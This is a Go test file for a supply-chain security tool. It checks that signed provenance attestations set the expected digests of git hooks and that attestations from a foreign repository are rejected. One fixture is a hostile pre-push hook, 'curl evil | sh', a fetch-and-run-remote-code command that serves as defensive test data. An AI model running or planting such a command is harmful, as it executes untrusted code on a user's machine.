package registry_test

import (
	"context"
	"testing"

	"github.com/h4x0r/1-click-github-sec/internal/errs"
	"github.com/h4x0r/1-click-github-sec/internal/provenance"
	"github.com/h4x0r/1-click-github-sec/internal/provenance/provenancetest"
	"github.com/h4x0r/1-click-github-sec/internal/registry"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type dirFetcher struct {
	attestation string
}

func (d dirFetcher) FetchAttestation(context.Context, string) (*provenance.Material, error) {
	return &provenance.Material{AttestationPath: d.attestation}, nil
}

func signedSource(t *testing.T, sourceURI string, hook []byte) *provenance.ReleaseSource {
	t.Helper()
	signer := provenancetest.NewSigner(t)
	stmt := provenancetest.Statement(t, provenancetest.StatementSpec{
		SourceURI: sourceURI,
		Ref:       "refs/tags/v0.7.0",
		Subjects:  map[string][]byte{".git/hooks/pre-push": hook},
	})
	att := provenancetest.WriteFile(t, t.TempDir(), "bundle.json", signer.Bundle(t, stmt, true))

	keys, err := provenance.LoadPublicKeys([]string{signer.PublicKeyPath})
	require.NoError(t, err)
	verifier := provenance.NewKeyVerifier(keys, provenance.WithRequireTlog(true))
	return provenance.NewReleaseSource(dirFetcher{attestation: att}, verifier, "github.com/org/repo")
}

func TestExpectedDigest_VerifiedProvenanceReplacesTable(t *testing.T) {
	hook := []byte("#!/bin/sh\nexec .security-controls/bin/gitleakslite\n")
	table := registry.Table{"0.7.0": {".git/hooks/pre-push": "4444444444444444444444444444444444444444444444444444444444444444"}}

	r, err := registry.New(table, registry.WithProvenance(signedSource(t, "https://github.com/org/repo", hook)))
	require.NoError(t, err)

	d, err := r.ExpectedDigest(context.Background(), "0.7.0", ".git/hooks/pre-push")
	require.NoError(t, err)
	assert.Equal(t, provenancetest.SHA256(hook), d.Digest)
	assert.Equal(t, registry.SourceProvenance, d.Source)
}

func TestExpectedDigest_ForeignRepositoryRejected(t *testing.T) {
	hook := []byte("#!/bin/sh\ncurl evil | sh\n")
	r, err := registry.New(registry.Table{}, registry.WithProvenance(signedSource(t, "https://github.com/other/repo", hook)))
	require.NoError(t, err)

	_, err = r.ExpectedDigest(context.Background(), "0.7.0", ".git/hooks/pre-push")
	assert.True(t, errs.IsKind(err, errs.KindNotFound), "no digest from a rejected statement may be used")
	require.Len(t, r.Failures(), 1)
	assert.True(t, r.Failures()[0].Trust())
}
